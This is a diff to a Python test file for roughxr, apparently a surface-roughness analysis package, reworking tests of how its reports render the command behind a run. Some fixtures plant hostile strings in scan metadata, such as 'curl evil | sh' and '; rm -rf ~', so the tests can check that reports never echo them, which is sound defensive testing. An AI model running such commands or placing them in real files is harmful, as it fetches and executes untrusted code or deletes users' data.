@@ -12,8 +12,6 @@ import xarray as xr
 
 import roughxr
 from roughxr import archive, cli, report
-from roughxr.cli.options import command_line
-from roughxr.cli.running import paired
 from roughxr.runs import analysis, several
 from roughxr.specimen import specimen_of
 from roughxr.vocabulary import numbers, schema
@@ -178,15 +176,6 @@ def test_control_characters_of_a_file_are_written_out(run):
     assert "a\\x1b[2Jb\\u202ec" in text and not set("\x1b\x07\u202e") & set(text)
 
 
-def test_what_a_scans_file_says_of_the_command_is_not_believed(run):
-    steps = ("glass()", "direct(subregions=[666, 666], delta=[1.0])", 'adhesive(law="; rm -rf ~")')
-    forged = "\n".join(f"roughxr 0.1.0: {step}" for step in steps)
-    scan = run["scan"].assign_attrs(source_file="a.gsf", command="curl evil | sh", history=forged)
-    line = report.command({**run, "scan": scan})
-    assert line.startswith("roughxr run a.gsf ") and "--subregions 3 3" in line
-    assert not any(word in line for word in ("curl", "666", "rm", "paper"))
-
-
 @pytest.mark.parametrize(
     "history", [f"roughxr 1: level(a={'[' * 100_000})", "roughxr 0.1.0: level(order=three)", "ncks in.nc out.nc"]
 )
@@ -195,62 +184,20 @@ def test_a_history_by_another_program_is_one_step(history):
     assert steps == [{"operation": "unknown", "arguments": {"history": history}}]
 
 
-@pytest.mark.parametrize(
-    ("pair", "words"),
-    [
-        (
-            {"young_modulus": 75, "poisson_ratio": 0.22, "surface_energy": 0.05},
-            "--young-modulus 75 --poisson-ratio 0.22 --surface-energy 0.05",
-        ),
-        (
-            {"young_modulus": (75, "130 GPa"), "poisson_ratio": (0.22, 0.28), "work_of_adhesion": "50 mJ/m^2"},
-            "--young-modulus 75 '130 GPa' --poisson-ratio 0.22 0.28 --work-of-adhesion 0.05",
-        ),
-        ({"materials": ("glass", "silica")}, "--materials glass/silica --hamaker-constant 0.065"),
-        (
-            {"contact_modulus": 40, "work_of_adhesion": 0.05, "adhesion_range": 0.4},
-            "--contact-modulus 40.0 --adhesion-range 0.4 --work-of-adhesion 0.05",
-        ),
-        (
-            {"contact_modulus": 40, "work_of_adhesion": 0.05, "hamaker_constant": 0.05},
-            "--contact-modulus 40.0 --hamaker-constant 0.05 --work-of-adhesion 0.05",
-        ),
-    ],
-)
-def test_the_command_names_the_bodies_as_they_were_given(run, pair, words):
-    """Run by the command line, it makes the same pair."""
-    scan = roughxr.assign_pair(run["scan"].drop_vars(schema.PAIR), sphere_radius="0.5 um", **pair)
-    scan = scan.assign_attrs(source_file="a.gsf")
-    line = report.command({"scan": scan})
-    assert words in line
-    options = command_line().parse_args(shlex.split(line)[1:])
-    again = paired(run["scan"].drop_vars(schema.PAIR), options)
-    for name in (name for name in schema.TRAVELLING if name in scan.coords):
-        assert float(again[name]) == pytest.approx(float(scan[name]), rel=1e-12)
-
-
-def test_the_command_makes_the_same_groups_again(tmp_path, monkeypatch, capsys):
-    """Particles on filled heights, all options by the shell, once from the scan and once by the run's own command."""
+def test_the_report_states_the_command_that_was_typed(tmp_path, monkeypatch):
+    """Particles on filled heights; whatever the file of a scan itself says of a command is not shown."""
     scan = roughxr.scans.synthetic.self_affine((32, 32), 20, rms=1, hurst=0.8, rolloff=300, cutoff=150, seed=1)
     scan["height"][3, 4] = np.nan
-    scan.assign_attrs(source_file="a.nc").to_netcdf(tmp_path / "a.nc")
+    scan.assign_attrs(command="curl evil | sh").to_netcdf(tmp_path / "a.nc")
     monkeypatch.chdir(tmp_path)
-    line = "run a.nc --sphere-radius 500 --contact-modulus 40 --work-of-adhesion .05 --fill linear --particle"
-    line += " --subregions 3 2 --preload 2 --mesh 1 --budget 0 --level quadratic"
+    line = "run a.nc --sphere-radius '0.5 um' --contact-modulus 40 --work-of-adhesion .05 --fill linear --particle"
+    line += " --subregions 3 2 --preload 2 --mesh 1 --budget 0 --level quadratic -o first.nc -q"
     with bare_runs():
-        assert cli.main([*line.split(), "-o", "first.nc", "-q"]) == 0
-        first = archive.load("first.nc")
-        again = report.command(first)
-        assert cli.main([*shlex.split(again)[1:], "-o", "second.nc", "-q"]) == 0
-    second = archive.load("second.nc")
-    assert set(first) == set(second)
-    for name in ("scan", "statistics/adhesive", "statistics/rests", "solutions/direct", "statistics/summary"):
-        xr.testing.assert_identical(first[name].drop_attrs(), second[name].drop_attrs())
-
-
-def test_a_run_at_places_that_are_no_grid_has_no_command(run):
-    scan = run["scan"].assign_attrs(source_file="a.gsf")
-    assert report.command({"scan": scan, "statistics/summary": schema.record(xr.Dataset(), "run", budget=8)}) == ""
+        assert cli.main(shlex.split(line)) == 0
+    first = archive.load("first.nc")
+    assert "statistics/rests" in first and "preload=2.0" in first["statistics/summary"].attrs["history"]
+    page = html.unescape(report.page(first))
+    assert f"roughxr {line}</pre>" in page and "curl" not in page
 
 
 def test_intervals_that_explode_are_not_printed_as_numbers():
